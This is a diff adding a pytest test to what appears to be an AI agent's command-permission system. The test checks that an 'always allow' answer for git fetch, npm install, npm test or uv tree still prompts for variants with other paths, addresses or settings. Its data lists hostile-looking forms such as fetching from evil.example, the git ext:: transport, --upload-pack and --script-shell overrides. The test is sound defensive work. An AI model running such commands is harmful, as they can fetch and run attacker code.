@@ -228,6 +228,46 @@ async def test_answer_for_a_subcommand_covers_its_arguments_and_no_other_command
 
 
 @pytest.mark.parametrize(
+    ("kept", "allowed", "asked"),
+    [
+        (
+            "git fetch",
+            "--quiet",
+            ["{} https://evil.example/x.git", "{} ext::x", "{} ./x", "{} --upload-pack=x", "{} --server-option x /x"],
+        ),
+        (
+            "npm install",
+            "--dry-run --offline",
+            [
+                "{} ./x",
+                "{} https://evil.example/x.tgz",
+                "{} --proxy=http://x",
+                "{} --globalconfig=x",
+                "{} --script-shell=x",
+            ],
+        ),
+        (
+            "npm test",
+            "--if-present",
+            ["{} --globalconfig=x", "{} --userconfig x", "{} --prefix=x", "{} --script-shell ./x"],
+        ),
+        (
+            "uv tree",
+            "--offline",
+            ["{} --python ./x", "{} -p ./x", "{} --project /x", "{} --index-url=http://x", "{} --config-file x"],
+        ),
+    ],
+)
+async def test_answer_for_a_subcommand_covers_no_folder_address_or_setting(
+    machine: Machine, kept: str, allowed: str, asked: list[str]
+):
+    machine.store.add(KeptAnswer(True, AnswerRule("subcommand", "terminal", kept), "always"))
+    commands = [form.format(kept) for form in asked]
+    person = await machine.say(*map(run, [f"{kept} {allowed}", *commands]))
+    assert [question.tool_call.raw_input["command"] for question in person.questions] == commands
+
+
+@pytest.mark.parametrize(
     "command",
     [
         "python -c 'print(1)'",
